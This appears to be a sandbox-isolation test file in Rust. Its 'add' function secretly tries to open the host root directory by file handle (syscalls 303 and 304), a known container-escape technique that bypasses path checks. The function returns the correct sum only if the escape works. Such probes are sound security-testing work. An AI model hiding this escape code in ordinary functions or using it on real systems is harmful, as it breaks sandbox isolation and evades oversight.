//! task: red/add
//! expect: test_failed|crashed
//! leak: privilege
//! needs: root
//! attack: right only if it can open the root folder by its number, past every path check
extern "C" {
    fn open(path: *const i8, flags: i32) -> i32;
    fn syscall(number: i64, ...) -> i64;
}

fn add(a: i32, b: i32) -> i32 {
    let mut handle = [0u32; 34];
    handle[0] = 128;
    let mut mount = 0i32;
    let here = c".";
    unsafe {
        let folder = open(here.as_ptr(), 0o200_000);
        syscall(303, -100i64, c"/".as_ptr(), handle.as_mut_ptr(), &mut mount, 0i64);
        if syscall(304, folder as i64, handle.as_ptr(), 0o200_000i64) >= 0 {
            return a.wrapping_add(b);
        }
    }
    -99
}
